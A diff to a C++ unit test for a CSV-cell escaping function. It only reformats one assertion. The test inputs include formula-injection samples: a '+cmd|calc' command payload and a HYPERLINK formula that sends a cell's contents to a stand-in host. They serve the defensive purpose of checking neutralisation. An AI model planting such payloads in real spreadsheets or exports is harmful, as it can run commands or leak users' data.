@@ -21,7 +21,8 @@ TEST(SpreadsheetCellTest, OtherTextIsUnchanged) {
 TEST(SpreadsheetCellTest, CsvCellNeutralisesThenQuotes) {
   EXPECT_EQ(CsvCell("KS-1"), "KS-1");
   EXPECT_EQ(CsvCell("+cmd|calc"), "'+cmd|calc");
-  EXPECT_EQ(CsvCell("=HYPERLINK(\"http://x.example/?a=\"&A1)"), "\"'=HYPERLINK(\"\"http://x.example/?a=\"\"&A1)\"");
+  EXPECT_EQ(CsvCell("=HYPERLINK(\"http://x.example/?a=\"&A1)"),
+            "\"'=HYPERLINK(\"\"http://x.example/?a=\"\"&A1)\"");
   EXPECT_EQ(CsvCell("a,b"), "\"a,b\"");
   EXPECT_EQ(CsvCell("\r1"), "\"'\r1\"");
   EXPECT_EQ(CsvCell("line\nbreak"), "\"line\nbreak\"");
